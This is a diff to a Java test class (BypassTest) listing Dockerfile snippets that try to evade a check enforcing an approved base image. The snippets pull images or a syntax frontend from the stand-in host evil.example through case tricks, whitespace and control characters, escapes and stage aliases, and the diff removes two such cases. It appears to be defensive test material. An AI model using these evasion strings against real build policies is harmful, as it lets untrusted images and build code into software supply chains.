@@ -41,8 +41,6 @@ public class BypassTest {
         BYPASSES.put("keyword indented", "FROM golden\n  FROM evil.example/x\n");
         BYPASSES.put("keyword in small letters", "FROM golden\nfrom evil.example/x\n");
         BYPASSES.put("tab behind the keyword", "FROM golden\nFROM\tevil.example/x\n");
-        BYPASSES.put(
-                "host over two lines", "FROM registry.corp/golden/java:17\\\n.evil.example/x\n".replace(":17", ""));
         BYPASSES.put("stage named like the golden image", "ARG B=evil.example/x\nfrom $B AS java\nFROM java\n");
         BYPASSES.put("stage named scratch", "fROM evil.example/x AS scratch\nFROM scratch\n");
         BYPASSES.put("frontend of its own", "# syntax=evil.example/frontend\nFROM golden\n");
@@ -57,7 +55,6 @@ public class BypassTest {
         BYPASSES.put("escaped flag", "FROM golden\nCOPY --fr\\om=evil.example/x / /\n");
         BYPASSES.put("backquote for escape", "# escape=`\nFROM golden\nFR`\nOM evil.example/x\n");
         BYPASSES.put("another spelling of the registry", "FROM golden\nFROM\fRegistry.Corp/golden/java:17\n");
-        BYPASSES.put("sprawling platform flag", "FROM golden\nFROM --platform=\"linux/amd64\"\u000Bevil.example/x\n");
         BYPASSES.put("carriage returns for blanks", "FROM golden\nFROM\revil.example/x\n");
         BYPASSES.put("byte order mark before the image", "FROM golden\nFROM\t\uFEFFevil.example/x\n");
     }
